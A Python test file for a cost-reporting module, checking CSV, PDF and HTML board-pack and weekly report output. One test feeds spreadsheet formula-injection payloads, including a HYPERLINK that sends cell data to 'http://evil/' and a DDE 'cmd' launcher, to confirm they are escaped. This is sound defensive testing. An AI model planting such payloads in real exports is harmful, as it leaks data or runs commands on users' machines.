import csv
import io

from opsmeter_reporting import render


def totals(cost: int) -> dict[str, object]:
    return {"costUsd": str(cost / 1e6), "costMicroUsd": cost, "requests": 2, "tokens": 5, "costPerRequestUsd": "0.1"}


PACK = {
    "workspaceId": "ws_abcdefgh",
    "dataMode": "real",
    "range": {"from": "2026-11-01T00:00:00Z", "to": "2026-11-03T00:00:00Z"},
    "notice": "Retention window applied",
    "rawRetentionDays": 14,
    "summary": totals(300),
    "trend": [{"day": "2026-11-01", **totals(100)}, {"day": "2026-11-02", **totals(200)}],
    "topDrivers": {"model": [{"key": "gpt-4o", **totals(300)}]},
    "budgetHistory": [{"at": "2026-11-02T10:00:00Z", "type": "reporting.spike_detected", "summary": "up → 3"}],
}


class TestBoardPackRender:
    def test_csv_has_every_section_and_the_notice(self) -> None:
        text = render.board_pack_csv(PACK)
        sections = [line.split(",")[0] for line in text.splitlines()[1:]]
        assert sections == ["notice", "summary", "trend", "trend", "top_driver", "budget_history"]
        assert "Retention window applied" in text

    def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(self) -> None:
        attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
        pack = {**PACK, "topDrivers": {"endpointTag": [{"key": a, **totals(1)} for a in attacks]}}
        rows = list(csv.reader(io.StringIO(render.board_pack_csv(pack))))
        keys = [row[2] for row in rows if row[0] == "top_driver"]
        assert keys == ["'" + a for a in attacks]
        assert [row[4] for row in rows if row[0] == "top_driver"] == ["1"] * len(attacks)

    def test_plain_cells_are_unchanged(self) -> None:
        rows = list(csv.reader(io.StringIO(render.board_pack_csv(PACK))))
        assert [row[2] for row in rows if row[0] == "top_driver"] == ["gpt-4o"]

    def test_pdf_is_a_pdf(self) -> None:
        assert render.board_pack_pdf(PACK).startswith(b"%PDF")


class TestWeeklyHtml:
    def test_charts_are_inline_svg_without_scripts(self) -> None:
        mover = {
            "dimension": "model", "key": "<gpt>", "previousCostUsd": "0", "currentCostUsd": "1", "costDeltaUsd": "1",
            "costDeltaMicroUsd": 1_000_000, "shareOfChange": "1.0000", "isNew": True,
        }  # fmt: skip
        report = {
            "workspaceId": "ws_abcdefgh",
            "week": PACK["range"],
            "baseline": PACK["range"],
            "summary": {"current": totals(300), "previous": totals(100), "delta": {"costChangeRatio": "2.0000"}},
            "days": PACK["trend"],
            "baselineDays": PACK["trend"],
            "topMovers": [mover],
            "budgetStatus": {"budgetWarning": True, "budgetExceeded": False, "enforcement": "advisory"},
            "alerts": {"week": 1, "baseline": 0},
        }
        html = render.weekly_html(report)
        assert html.count("<svg") == 2
        assert "<script" not in html
        assert "&lt;gpt&gt;" in html
